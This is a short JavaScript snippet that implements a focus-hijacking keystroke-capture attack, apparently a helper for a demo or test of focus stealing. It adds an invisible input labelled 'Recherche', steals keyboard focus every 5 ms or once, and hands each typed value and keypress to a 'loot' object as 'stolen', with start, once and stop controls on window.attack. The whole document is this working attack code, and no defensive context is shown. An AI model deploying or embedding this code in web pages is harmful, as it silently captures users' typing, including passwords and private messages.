// Takes the keyboard away from whoever writes elsewhere, for a letter or for good, into a field that nobody sees.
(() => {
  const { take } = loot;
  const field = document.createElement('input');
  field.style.cssText = 'position:fixed;opacity:0';
  field.setAttribute('aria-label', 'Recherche');
  field.addEventListener('input', () => take('stolen', field.value));
  field.addEventListener('keydown', ({ key }) => loot.key(key));
  let timer;

  window.attack = {
    start() {
      document.body.append(field);
      timer = setInterval(() => field.focus(), 5);
    },
    once: () => {
      document.body.append(field);
      field.focus();
    },
    stop() {
      clearInterval(timer);
      field.remove();
    },
  };
})();
